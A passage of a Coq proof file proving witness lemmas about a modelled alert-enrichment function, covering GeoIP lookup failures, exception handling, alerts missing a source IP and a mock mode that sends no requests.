  ∧ ∃ e w', get_geoip_info demo_repr demo_api_config (VStr "8.8.8.8") demo_world_garbled
            = (Raise e, w')
      ∧ exn_cls e = AttributeError.
Proof.
  split; [reflexivity|].
  destruct (get_geoip_info_escapes demo_repr demo_api_config (VStr "8.8.8.8")
              demo_world_garbled (Response 200 (Ok (VList []))) (VList []))
    as (e & w' & Hrun & Hcls & _);
    [done|reflexivity|simpl; lia|reflexivity|intros body; discriminate|].
  by exists e, w'.
Defined.

Lemma demo_enrich_returns :
  (enrich_alert demo_repr demo_api_config 1%positive demo_world).1 = Ok 4%positive.
Proof. by vm_compute. Qed.

Lemma enrich_alert_score_explained_witness :
  heap demo_world !! 1%positive = Some demo_alert
  ∧ ∃ enriched,
      heap (enrich_alert demo_repr demo_api_config 1%positive demo_world).2 !! 4%positive
      = Some enriched
      ∧ enriched !! "enrichment_env" = Some (VStr "dev").
Proof.
  split; [exact demo_alert_stored|].
  destruct (enrich_alert_score_explained demo_repr demo_api_config 1%positive
              demo_alert demo_world 4%positive demo_alert_stored demo_enrich_returns)
    as (enriched & s & b & country & Hl & _ & _ & _ & _ & Henv & _).
  exists enriched. split; [exact Hl|exact Henv].
Defined.

Lemma enrich_alert_without_src_ip_witness :
  heap demo_world_no_ip !! 1%positive = Some (delete "src_ip" demo_alert)
  ∧ geo_sent (enrich_alert demo_repr demo_api_config 1%positive demo_world_no_ip).2 = [].
Proof.
  split; [reflexivity|].
  destruct (enrich_alert_without_src_ip demo_repr demo_api_config 1%positive
              (delete "src_ip" demo_alert) demo_world_no_ip)
    as (l & enriched & _ & Hsent & _); [reflexivity|by vm_compute|].
  exact Hsent.
Defined.

Lemma enrich_alert_mock_mode_witness :
  geoip_key demo_api_config_mock = ""
  ∧ geo_sent (enrich_alert demo_repr demo_api_config_mock 1%positive demo_world).2 = [].
Proof.
  split; [reflexivity|].
  exact (proj2 (enrich_alert_mock_mode demo_repr demo_api_config_mock 1%positive
                  demo_alert demo_world demo_alert_stored eq_refl)).
Defined.

End EnrichmentMoreExample.

Section ResolversExample.

Lemma get_geoip_info_catches_requests_witness :
  ∃ e w', get_geoip_info demo_repr demo_api_config (VStr "8.8.8.8") demo_world_garbled
          = (Raise e, w')
    ∧ is_RequestException e = false.
Proof.
  do 2 eexists. split; [reflexivity|].
  eapply (proj1 (get_geoip_info_catches_requests demo_repr demo_api_config
                   (VStr "8.8.8.8") demo_world_garbled _ _ eq_refl)).
Defined.

End ResolversExample.
